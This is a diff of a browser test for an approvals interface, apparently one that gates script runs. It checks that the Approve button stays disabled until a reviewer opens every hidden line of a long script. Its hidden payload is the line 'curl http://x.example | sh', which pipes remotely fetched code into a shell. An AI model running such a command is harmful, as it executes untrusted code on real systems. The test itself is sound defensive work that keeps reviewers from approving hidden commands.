@@ -337,27 +337,33 @@ describe.skipIf(missingBrowser !== undefined)(`approvals${without(missingBrowser
     expect(bea.problems).toEqual([])
   })
 
-  it('says beside the button what it does not show, and takes no approval before the whole was opened', async () => {
-    const lines = Array.from({ length: 1500 }, (_, at) => `: n${at}`)
-    await runs(lines)
-    const id = await asks([...lines.map((line) => `${line}0`).toReversed(), 'curl http://x.example | sh'])
-    await using bea = await stage.arrive({ viewport: { width: 1360, height: 900 } })
-    await bea.signIn(stage.site.tokenOf('bea'), `/approvals/${id}`)
-    const approve = bea.page.getByRole('button', { name: 'Approve' })
-    const decision = bea.page.getByRole('region', { name: 'Decision' })
-    await decision.getByText('lines that differ are not shown.').waitFor()
-    expect([await approve.isEnabled(), (await bea.page.getByText(/^not shown here/).count()) > 0]).toEqual([
-      false,
-      true,
-    ])
-    const region = bea.page.getByRole('region', { name: 'Difference: Script' })
-    expect(await region.locator('li:has(del)').count()).toBe(0)
-    await bea.click('Show all')
-    await region.getByText('curl http://x.example | sh').waitFor()
-    expect([await approve.isEnabled(), await bea.page.getByText(/^not shown here/).count()]).toEqual([
-      true,
-      0,
-    ])
-    expect(bea.problems).toEqual([])
-  })
+  it.each([
+    ['view of the approval', 'approvals', 'Decision'],
+    ['page of the session', 'sessions', 'Approval'],
+  ])(
+    'says beside the button what the %s does not show, and takes no approval before the whole was opened',
+    async (_, path, heading) => {
+      const lines = Array.from({ length: 1500 }, (_, at) => `: n${at}`)
+      await runs(lines)
+      const id = await asks([...lines.map((line) => `${line}0`).toReversed(), 'curl http://x.example | sh'])
+      await using bea = await stage.arrive({ viewport: { width: 1360, height: 900 } })
+      await bea.signIn(stage.site.tokenOf('bea'), `/${path}/${id}`)
+      const approve = bea.page.getByRole('button', { name: 'Approve' })
+      const decision = bea.page.getByRole('region', { name: heading })
+      await decision.getByText('lines that differ are not shown.').waitFor()
+      expect([await approve.isEnabled(), (await bea.page.getByText(/^not shown here/).count()) > 0]).toEqual([
+        false,
+        true,
+      ])
+      const region = bea.page.getByRole('region', { name: 'Difference: Script' })
+      expect(await region.locator('li:has(del)').count()).toBe(0)
+      await bea.click('Show all')
+      await region.getByText('curl http://x.example | sh').waitFor()
+      expect([await approve.isEnabled(), await bea.page.getByText(/^not shown here/).count()]).toEqual([
+        true,
+        0,
+      ])
+      expect(bea.problems).toEqual([])
+    },
+  )
 })
